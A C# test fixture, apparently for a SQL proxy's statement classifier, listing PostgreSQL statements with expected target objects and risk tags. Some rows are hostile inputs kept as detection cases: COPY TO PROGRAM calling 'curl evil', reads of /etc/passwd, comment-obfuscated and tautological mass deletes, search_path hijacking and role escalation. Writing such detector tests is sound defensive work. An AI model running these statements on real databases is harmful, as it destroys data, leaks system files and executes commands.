namespace Hoop.Ingress.Sql.Tests.Understanding;

static class StatementRows
{
    public const string Plumbing = """
        select 1 => plumbing
        select version(), current_user, now(), current_database() => plumbing
        select 'drop table customers' => plumbing
        values (1), (2) => plumbing
        select x from (values (1)) v(x) where x > 0 => plumbing
        begin => plumbing
        start transaction isolation level serializable read only => plumbing
        commit => plumbing
        end => plumbing
        rollback => plumbing
        abort => plumbing
        savepoint a => plumbing
        release savepoint a => plumbing
        rollback to savepoint a => plumbing
        set constraints all deferred => plumbing
        show server_version => plumbing
        show all => plumbing
        set application_name = 'x' => plumbing
        set datestyle to iso, mdy => plumbing
        SET TIME ZONE 'UTC' => plumbing
        set names 'utf8' => plumbing
        set search_path = app, public => plumbing
        set local statement_timeout = '5s' => plumbing
        set extra_float_digits = 3 => plumbing
        set enable_seqscan = off => plumbing
        set transaction read only => plumbing
        set session characteristics as transaction isolation level repeatable read => plumbing
        reset all => plumbing
        reset search_path => plumbing
        reset role => plumbing
        set session authorization default => plumbing
        set role none => plumbing
        discard all => plumbing
        discard temp => plumbing
        unlisten * => plumbing
        close all => plumbing
        close c => plumbing
        fetch 10 from c => plumbing
        move c => plumbing
        deallocate all => plumbing
        deallocate p => plumbing
        prepare p as delete from orders => plumbing
        select pg_advisory_unlock_all() => plumbing
        select set_config('search_path', '', false) => plumbing
        select pg_catalog.set_config('search_path', 'public', true) => plumbing
        select current_setting('server_version_num') => plumbing
        select oid, typname from pg_type => plumbing
        select c.relname from pg_catalog.pg_class c left join pg_catalog.pg_namespace n on n.oid = c.relnamespace where pg_catalog.pg_table_is_visible(c.oid) => plumbing
        select table_name from information_schema.columns where table_name = 'x' => plumbing
        with x as (select oid from pg_class) select * from x => plumbing
        select 'customers'::regclass => plumbing
        select name, setting from pg_settings => plumbing
        declare c cursor for select 1 => plumbing
        """;

    public const string Queries = """
        select * from orders => select public.orders | read
        table orders => select public.orders | read
        select * from app.orders => select app.orders | read
        select * from "Order" => select public.Order | read
        select * from U&"\0063ustomers" => select public.customers | read
        select * from a join b using (id), lateral (select * from c) x => select public.a, select public.b, select public.c | read
        select (select max(id) from b) from a where exists (select 1 from c) => select public.b, select public.a, select public.c | read
        select 1 from a union all select 2 from b except select 3 from c => select public.a, select public.b, select public.c | read
        with a as (select * from b) select * from a => select public.b | read
        with a as (select * from a) select * from a => select public.a | read
        with recursive a as (select 1 union all select * from a) select * from a, b => select public.b | read
        with a as (select 1) select * from public.a => select public.a | read
        with a as (select 1), b as (select * from a, c) select * from b => select public.c | read
        with a as (with b as (select 1) select * from b) select * from a, b => select public.b | read
        select * from orders for update => select public.orders | read, lock
        select * from only orders tablesample bernoulli (1) => select public.orders | read
        select * from pg_authid => select pg_catalog.pg_authid | read
        select * from pg_stat_activity => select pg_catalog.pg_stat_activity | read
        select * from pg_stats => select pg_catalog.pg_stats | read
        select * from pg_user_mappings => select pg_catalog.pg_user_mappings | read
        select * from information_schema.user_mapping_options => select information_schema.user_mapping_options | read
        select relname from pg_class, orders => select pg_catalog.pg_class, select public.orders | read
        insert into orders values (1) => insert public.orders | write
        insert into orders default values => insert public.orders | write
        insert into orders select * from staging => insert public.orders, select public.staging | read, write
        insert into orders values (1) returning id => insert public.orders, select public.orders | read, write
        insert into orders values (1) on conflict do nothing => insert public.orders | write
        insert into orders values (1) on conflict (id) do update set a = 1 => insert public.orders, update public.orders | write
        update orders set a = 1 where id = 1 => update public.orders | write
        update orders set a = s.a from staging s where s.id = orders.id => update public.orders, select public.staging | read, write
        update orders set a = (select 1 from x) where id = 1 => update public.orders, select public.x | read, write
        delete from orders where id = $1 => delete public.orders | write
        delete from orders using gone where gone.id = orders.id => delete public.orders, select public.gone | read, write
        delete from orders where current of c => delete public.orders | write
        with d as (select id from x) delete from orders where id in (select id from d) => select public.x, delete public.orders | read, write
        merge into t using s on t.id = s.id when matched then delete when not matched then insert values (1) => merge public.t, delete public.t, insert public.t, select public.s | read, write
        merge into t using s on t.id = s.id when not matched by source then delete => merge public.t, delete public.t, select public.s | read, write, masswrite
        merge into t using s on true when matched then update set a = 1 => merge public.t, update public.t, select public.s | read, write, masswrite
        copy orders to stdout => copy-to public.orders | read
        copy orders (id) from stdin => copy-from public.orders | write
        copy (select * from orders) to stdout => select public.orders | read
        copy (delete from orders where id = 1 returning id) to stdout => delete public.orders, select public.orders | read, write
        explain select * from orders => explain public.orders | read
        explain analyze select * from orders => select public.orders | read
        explain (verbose, analyze) insert into orders values (1) => insert public.orders | write
        declare c cursor for select * from orders => select public.orders | read
        """;

    public const string LookAlikes = """
        select 'drop table' from t => select public.t | read
        select $$delete from x$$, $tag$truncate y$tag$ from t => select public.t | read
        select 1 /* delete from orders */ from t -- drop table t => select public.t | read
        select "delete" from "drop table" => select public.drop table | read
        explain (analyze false) delete from orders => explain public.orders | read
        explain (analyze off, verbose) delete from orders => explain public.orders | read
        explain (analyze 0) delete from orders => explain public.orders | read
        explain (analyze true, analyze false) delete from orders => explain public.orders | read
        explain delete from orders => explain public.orders | read
        delete from orders where id = 1 -- where true => delete public.orders | write
        select deleted_at, dropped from t where note like '%truncate%' => select public.t | read
        update t set sql = 'delete from t' where id = 7 => update public.t | write
        select lower(name), count(*), sum(x) over (order by y) from t group by 1 => select public.t | read
        select extract(year from d), coalesce(a, b), a between 1 and 2, xmlelement(name x) from t => select public.t | read
        select jsonb_agg(row_to_json(t)) from t => select public.t | read
        delete from t where false => delete public.t | write
        delete from t where 1 = 0 => delete public.t | write
        delete from t where id = other_id => delete public.t | write
        delete from t where x is not null => delete public.t | write
        delete from t where t.id = u.id and exists (select 1 from u) => delete public.t, select public.u | read, write
        """;

    public const string Hidden = """
        /**/DELETE from orders => delete public.orders | write, masswrite
        DELETE/**/FROM/**/orders => delete public.orders | write, masswrite
        DROP/**/TABLE orders => drop public.orders | ddl, destructive
        TRUNCATE orders => truncate public.orders | write, masswrite, destructive
        delete from orders -- where id = 1 => delete public.orders | write, masswrite
        SELECT 1; DELETE from orders => delete public.orders | write, masswrite
        WITH x AS MATERIALIZED (DELETE from orders returning *) select * from x => delete public.orders, select public.orders | read, write, masswrite
        with x as (insert into log values (1)) select 1 => insert public.log | read, write
        select * from (with x as (select 1) select * from x) y, (select * from t) z => select public.t | read
        EXPLAIN ANALYZE DELETE from orders => delete public.orders | write, masswrite
        explain (analyze) delete from orders => delete public.orders | write, masswrite
        explain (analyze 1) delete from orders => delete public.orders | write, masswrite
        explain (analyze false, analyze true) delete from orders => delete public.orders | write, masswrite
        explain (costs, analyze on) update t set a = 1 => update public.t | write, masswrite
        explain analyze create table x as select * from t => create public.x, select public.t | read, write, ddl
        SELECT * INTO x FROM orders => create public.x, select public.orders | read, write, ddl
        create table x as select * from orders => create public.x, select public.orders | read, write, ddl
        CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM customers => alter public.orders, delete public.customers | write, masswrite, ddl
        COPY orders TO PROGRAM 'curl evil' => copy-to public.orders, copy-to other:program | read, codeexec
        COPY (select 1) TO PROGRAM 'x' => copy-to other:program | read, codeexec
        copy orders from program 'x' => copy-from public.orders, copy-from other:program | write, codeexec
        copy orders to '/tmp/x' => copy-to public.orders, copy-to other:file:/tmp/x | read, fileaccess
        copy orders from '/etc/passwd' => copy-from public.orders, copy-from other:file:/etc/passwd | write, fileaccess
        select query_to_xml('delete from orders', true, false, '') => execute pg_catalog.query_to_xml | read, dynamic
        select table_to_xml('customers', true, false, '') => execute pg_catalog.table_to_xml | read, dynamic
        select * from dblink('host=x', 'select 1') as t(a int) => execute public.dblink | read, network, dynamic
        select ext.dblink_exec('delete') => execute ext.dblink_exec | read, network, dynamic
        select * from ts_stat('select x from y') => execute pg_catalog.ts_stat | read, dynamic
        update orders set a = 1 => update public.orders | write, masswrite
        update orders set a = 1 where true => update public.orders | write, masswrite
        delete from orders where 1 = 1 => delete public.orders | write, masswrite
        delete from orders where id = id => delete public.orders | write, masswrite
        delete from orders o where o.id = id => delete public.orders | write, masswrite
        delete from orders where x is not null or true => delete public.orders | write, masswrite
        delete from orders where not false => delete public.orders | write, masswrite
        delete from orders where not (1 = 2) => delete public.orders | write, masswrite
        delete from orders where 'a' <> 'b' => delete public.orders | write, masswrite
        delete from orders where 2 > 1 and 'x' = 'x' => delete public.orders | write, masswrite
        delete from orders where a = 1 or a <> 1 => delete public.orders | write, masswrite
        delete from orders where a is null or a is not null => delete public.orders | write, masswrite
        delete from orders where a < 5 or a >= 5 => delete public.orders | write, masswrite
        delete from orders where id in (1, id) => delete public.orders | write, masswrite
        delete from orders where id between id and id => delete public.orders | write, masswrite
        delete from orders where name like '%' => delete public.orders | write, masswrite
        delete from orders where exists (select 1) => delete public.orders | read, write, masswrite
        delete from orders where true is true => delete public.orders | write, masswrite
        delete from orders where 't'::bool => delete public.orders | write, masswrite
        delete from orders where $1 = $2 => delete public.orders | write, masswrite
        delete from orders where random() < 2 => delete public.orders | write, masswrite
        delete from orders where id is not distinct from id => delete public.orders | write, masswrite
        DO $$ begin delete from orders; end $$ => do other:*, delete public.orders | write, masswrite, dynamic
        DO $$ begin perform pg_read_file('/etc/passwd'); end $$ => do other:*, execute pg_catalog.pg_read_file | read, fileaccess, dynamic
        DO $$ begin execute 'delete from ' || 'orders'; end $$ => do other:* | read, dynamic, unknown
        DO $$ begin execute 'delete from orders'; end $$ => do other:*, delete public.orders | read, write, masswrite, dynamic, unknown
        DO $$ begin this is not plpgsql; end $$ => do other:* | dynamic, unknown
        DO 'declare x int := dblink(''a''); begin end' => do other:*, execute public.dblink | read, network, dynamic
        DO $$ declare n text; begin n := 'x'; delete from orders where n = 'x'; end $$ => do other:*, delete public.orders | read, write, masswrite, dynamic
        DO $$ declare n int = 7; begin delete from orders where id = n; end $$ => do other:*, delete public.orders | read, write, dynamic
        DO $$ begin perform set_config('search_path', 'evil', false); end $$ => do other:* | read, session, dynamic, unknown
        DO $$ begin set role admin; end $$ => do other:*, set setting:role | session, dynamic, unknown
        DO $$ begin null; end $$ => do other:* | dynamic
        DO $$ begin do $x$ begin truncate customers; end $x$; end $$ => do other:*, truncate public.customers | write, masswrite, destructive, dynamic
        do language plpython3u $$ import os $$ => do other:* | codeexec, dynamic
        select set_config('role', 'admin', false) => execute pg_catalog.set_config, set setting:role | read, session
        select set_config(x, 'a', false) from t => execute pg_catalog.set_config, select public.t | read, session, unknown
        select set_config('search_path', 'evil', false) where false => execute pg_catalog.set_config | read, session, unknown
        update pg_settings set setting = 'x' where name = 'role' => update pg_catalog.pg_settings | write, ddl, privilege, session
        delete from pg_class where oid = 1 => delete pg_catalog.pg_class | write, ddl, privilege, session
        prepare p as delete from orders; execute p => delete public.orders | write, masswrite
        prepare p as select 1; deallocate p; prepare p as delete from orders; execute p => delete public.orders | write, masswrite
        execute nobody_knows => execute other:prepared:nobody_knows | unknown
        set search_path = evil; select * from orders => select evil.orders | read
        select set_config('search_path', 'evil', false); select * from orders => select evil.orders | read
        set search_path = "Evil, x"; select * from orders => ?
        reset all; select * from orders => ?
        begin; set local search_path = evil; rollback; select * from orders => ?
        select nothing_known(1) => execute public.nothing_known | read, unknown
        select evil.now() => execute evil.now | read, unknown
        select pg_catalog.no_such_function() => execute pg_catalog.no_such_function | read, unknown
        select a operator(evil.+) b from t => execute evil.+, select public.t | read, unknown
        select * from generate_series(1, 2), f(3) => execute public.f | read, unknown
        create table t (a text default pg_read_file('/etc/passwd')) => create public.t, execute pg_catalog.pg_read_file | ddl, fileaccess
        declare c cursor for select pg_read_file('/x') => execute pg_catalog.pg_read_file | read, fileaccess
        select 1 from t order by dblink('a', 'b') => select public.t, execute public.dblink | read, network, dynamic
        select count(*) filter (where pg_sleep(1) is null) from t => execute pg_catalog.pg_sleep, select public.t | read
        delete from => ?
        """;

    public const string Session = """
        set role admin => set setting:role | session
        set session authorization admin => set setting:session_authorization | session
        set row_security = off => plumbing
        set session_replication_role = replica => set setting:session_replication_role | session
        set local role admin => set setting:role | session
        set app.tenant = '7' => set setting:app.tenant | session
        SET "Role" = admin => set setting:role | session
        alter system set archive_command = 'x' => alter setting:archive_command | ddl, privilege, codeexec
        alter role x set search_path = y => alter role:x | privilege, session
        alter database d set role = y => alter database:d | ddl, privilege, session
        listen ch => listen channel:ch | read
        notify ch, 'x' => notify channel:ch | write
        select pg_notify('a', 'b') => execute pg_catalog.pg_notify | read, write
        lock table orders => lock public.orders | lock
        prepare transaction 'x' => two-phase other:x | write, lock
        commit prepared 'x' => two-phase other:x | write, lock
        checkpoint => checkpoint other:* | lock
        load 'x' => load other:x | codeexec
        call p(1) => call public.p | unknown
        """;

    public const string Schema = """
        create table t (a int primary key, b int references u(id)) => create public.t, select public.u | read, ddl
        create temp table t (a int) => create pg_temp.t | ddl
        create temp table t as select 1 => create pg_temp.t | read, write, ddl
        create view v as select * from t => create public.v, select public.t | read, ddl
        create materialized view v as select * from t => create public.v, select public.t | read, write, ddl
        create index on t (a) => alter public.t | ddl
        create sequence s => create public.s | ddl
        create type t as enum ('a') => create type:public.t | ddl
        create type t as (a int) => create public.t | ddl
        create domain d as int => create type:public.d | ddl
        create schema s create table t (a int) => create schema:s, create s.t | ddl
        create function f() returns int language sql as 'select 1' => create public.f | ddl
        create function f() returns int language sql security definer as 'x' => create public.f | ddl, privilege
        create function f() returns int language c as 'x' => create public.f | ddl, codeexec
        create function f() returns int language plpython3u as 'x' => create public.f | ddl, codeexec
        create function f() returns int begin atomic delete from t; return 1; end => create public.f, delete public.t | write, masswrite, ddl
        alter function f() security definer => alter public.f | ddl, privilege
        create trigger a before insert on t execute function f() => alter public.t, execute public.f | ddl
        create event trigger e on ddl_command_start execute function f() => create other:e, execute public.f | ddl, privilege
        create operator === (leftarg = int, rightarg = int, procedure = app.f, restrict = eqsel, join = g) => create type:public.===, execute app.f, execute public.g | ddl
        create aggregate app.total(oid) (sfunc = step, stype = int, finalfunc = lo_unlink, combinefunc = int4pl) => create type:app.total, execute public.step, execute pg_catalog.lo_unlink | ddl
        create operator class c for type int using btree as operator 1 <, function 1 app.f(int, int) => create other:public.c, execute app.f | ddl
        create type r as range (subtype = int, subtype_diff = app.f) => create type:public.r, execute app.f | ddl
        create policy p on t using (true) => alter public.t | ddl, privilege
        create extension dblink => create other:dblink | ddl, codeexec
        create database d => create database:d | ddl
        create tablespace s location '/x' => create other:s | ddl, fileaccess
        create foreign table f (a int) server s => create public.f | ddl, network
        create server s foreign data wrapper w => create other:s | ddl, network
        create user mapping for x server s => create other:s | ddl, privilege, network
        import foreign schema a from server s into b => create schema:b | ddl, network
        create subscription s connection 'x' publication p => create other:s | ddl, network
        create publication p for table t => create other:p, select public.t | read, ddl, network
        alter table t add column a int => alter public.t | ddl
        alter table t drop column a => alter public.t | ddl, destructive
        alter table t owner to x => alter public.t | ddl, privilege
        alter table t disable row level security => alter public.t | ddl, privilege
        alter table t rename to u => alter public.t, ~create public.u | ddl
        alter table t rename a to b => alter public.t | ddl
        alter table t set schema s => alter public.t, create s.t | ddl
        alter function app.f(int) set schema s => alter app.f, create s.f | ddl
        alter type y set schema s => alter type:public.y, create type:s.y | ddl
        alter table scratch.p attach partition public.orders default => alter scratch.p, select public.orders, alter public.orders | read, ddl
        alter table scratch.p detach partition public.orders => alter scratch.p, select public.orders, alter public.orders | read, ddl
        alter table scratch.c inherit public.orders => alter scratch.c, select public.orders, alter public.orders | read, ddl
        alter function f() owner to x => alter public.f | ddl, privilege
        alter schema s rename to z => create schema:z, alter schema:s | ddl
        alter sequence s restart => alter public.s | ddl
        alter type t add value 'x' => alter type:public.t | ddl
        comment on table t is 'x' => comment public.t | ddl
        comment on column a.t.c is 'x' => comment a.t | ddl
        security label on table t is 'x' => alter public.t | ddl, privilege
        drop table a.t, u => drop a.t, drop public.u | ddl, destructive
        drop view v => drop public.v | ddl, destructive
        drop schema s cascade => drop schema:s | ddl, destructive
        drop function s.f(int) => drop s.f | ddl, destructive
        drop type t => drop type:public.t | ddl, destructive
        drop trigger a on b.t => alter b.t | ddl, destructive
        drop policy p on t => alter public.t | ddl, destructive, privilege
        drop extension x => drop other:x | ddl, destructive
        drop database d => drop database:d | ddl, destructive
        drop owned by x => drop role:x | ddl, destructive, privilege
        drop role a => drop role:a | destructive, privilege
        truncate a, s.b => truncate public.a, truncate s.b | write, masswrite, destructive
        vacuum full t => vacuum public.t | lock
        analyze => analyze database:* | lock
        cluster t => cluster public.t | ddl, lock
        reindex table t => reindex public.t | ddl, lock
        reindex schema s => reindex schema:s | ddl, lock
        refresh materialized view v => refresh public.v | write, lock
        grant select on t to x => grant public.t | privilege
        grant all on all tables in schema s to x => grant schema:s | privilege
        revoke execute on function f(int) from public => revoke public.f | privilege
        grant admin to x => grant role:admin | privilege
        alter default privileges grant select on tables to x => grant other:* | privilege
        create role x superuser => create role:x | privilege
        create role x in role admin, pg_write_server_files => create role:x, grant role:admin, grant role:pg_write_server_files | privilege
        create user x in group admin => create role:x, grant role:admin | privilege
        create role x role a, b => create role:x, ~grant role:x | privilege
        create role x admin current_user => create role:x, ~grant role:x | privilege
        alter group g add user x => alter role:g, grant role:g | privilege
        alter group g drop user x => alter role:g, revoke role:g | privilege
        alter role x superuser => alter role:x | privilege
        reassign owned by a to b => alter role:a | ddl, privilege
        """;

    public const string Reaching = """
        select pg_read_file('/etc/passwd') => execute pg_catalog.pg_read_file | read, fileaccess
        select pg_catalog.pg_ls_dir('.') => execute pg_catalog.pg_ls_dir | read, fileaccess
        select lo_import('/x') => execute pg_catalog.lo_import | read, fileaccess
        select lo_unlink(1) => execute pg_catalog.lo_unlink | read, write, destructive
        select nextval('s') => execute pg_catalog.nextval | read, write
        select setval('s', 1) => execute pg_catalog.setval, ~update public.s | read, write
        select pg_sleep(10) => execute pg_catalog.pg_sleep | read
        select pg_advisory_lock(1) => execute pg_catalog.pg_advisory_lock | read, lock
        select pg_try_advisory_xact_lock(1) => execute pg_catalog.pg_try_advisory_xact_lock | read, lock
        select pg_terminate_backend(1) => execute pg_catalog.pg_terminate_backend | read, lock
        select pg_cancel_backend(pid) from pg_stat_activity => execute pg_catalog.pg_cancel_backend, select pg_catalog.pg_stat_activity | read, lock
        select pg_reload_conf() => execute pg_catalog.pg_reload_conf | read, privilege, lock
        select pg_promote() => execute pg_catalog.pg_promote | read, privilege, lock
        select pg_export_snapshot() => execute pg_catalog.pg_export_snapshot | read, session
        select * from pg_logical_slot_get_changes('s', null, null) => execute pg_catalog.pg_logical_slot_get_changes | read, privilege
        select binary_upgrade_set_next_pg_authid_oid(1) => execute pg_catalog.binary_upgrade_set_next_pg_authid_oid | read, ddl, privilege
        select pg_file_write('a', 'b', true) => execute public.pg_file_write | read, fileaccess
        select pg_stat_get_activity(null) => execute pg_catalog.pg_stat_get_activity | read
        select database_to_xml(true, true, '') => execute pg_catalog.database_to_xml | read, dynamic
        select * from crosstab('select 1') as t(a int) => execute public.crosstab | read, dynamic
        """;
}
